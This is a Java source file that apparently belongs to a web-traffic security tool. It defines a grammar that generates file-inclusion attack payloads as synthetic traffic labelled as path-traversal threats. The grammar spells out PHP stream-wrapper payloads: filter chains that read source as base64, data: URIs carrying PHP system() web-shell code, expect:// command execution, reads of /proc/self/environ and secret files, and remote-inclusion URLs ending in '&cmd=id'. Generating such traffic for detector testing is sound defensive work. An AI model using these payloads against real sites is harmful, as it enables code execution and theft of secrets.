package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Naming a file that is no file: a filter, a stream, an archive, another host's page. */
final class FileInclusion {

    private static final Grammar GRAMMAR = PathTraversal.WORDS.extend(
            """
            wrapper ::=
              5×php://filter/«read=¦»«filter»«0..3×|«filter»»/resource=«resource»
              php://filter/convert.base64-encode«?/resource»=«resource»
              2×php://input«?%00»
              2×data:«//text/plain¦text/plain¦//text/html¦»«;base64,«@base64 <?php «system('«unix_command»')¦phpinfo()»;?>»¦,<?php «system('id')¦phpinfo();»?>»
              expect://«unix_command»
              «zip¦phar¦compress.zlib¦compress.bzip2¦rar»://«?/»«word»«?/«word»»«.zip¦.jpg¦.phar¦.png»«#¦%23»«word».«php¦txt»
              phar://«word»/«word».«phar¦jpg»/«word»
              glob:///«var/www¦etc»/*
              php://«fd/«0..9»¦stdin¦memory¦temp¦output»
              pHp://FilTer/convert.base64-encode/resource=«resource»
              file:///proc/self/«fd/«0..30»¦environ»
              ogg://«secret_file»
              «jar:file:///«word».jar!/¦netdoc:///¦classpath:»«secret_file»
            filter ::=
              3×convert.base64-«encode¦decode»
              string.«rot13¦toupper¦tolower¦strip_tags»
              zlib.«deflate¦inflate»
              convert.iconv.«UTF8¦UTF16¦UTF-8¦CP1252¦L«1..9»¦ISO2022KR».«UTF7¦UTF-16LE¦UTF8¦UCS-2¦CSISO2022KR»
              convert.quoted-printable-encode
            resource ::=
              2×«1..6×../»«secret_file»
              /«secret_file»
              «index¦config¦login¦admin¦«word»»«¦.php»
              «1..4×../»«word».php
              «url»
              data://,«alnum 4..20»
            remote ::=
              4×«http¦https¦ftp¦HTTP¦hTTp»://«server»/«name».«txt¦php¦gif¦jpg¦log¦inc»«??»«tail»
              «http¦ftp»://«server»/«name»/«name».txt«?¦%00¦&cmd=id»
              //«server»/«name».«txt¦php»
              http:«server»/«name»
              «http¦https»%3a%2f%2f«server»%2f«name».txt
              http://«server»/«name».txt??
              http://«server»/«name»?/«word».php
              ftp://«word»:«word»@«server»/«name».txt
              https:\\\\«server»\\«name».php
            """);

    static final List<AttackFamily> FAMILIES = List.of(
            family("inclusion_wrapper", "wrapper")
                    .in(Placement.QUERY, Placement.QUERY, Placement.QUERY, Placement.FORM, Placement.COOKIE),
            family("inclusion_remote", "remote").in(Placement.QUERY, Placement.QUERY, Placement.FORM, Placement.JSON));

    private FileInclusion() {}

    private static AttackFamily family(String name, String rule) {
        return AttackFamily.of(name, ThreatType.PATH_TRAVERSAL, GRAMMAR.from(rule));
    }
}
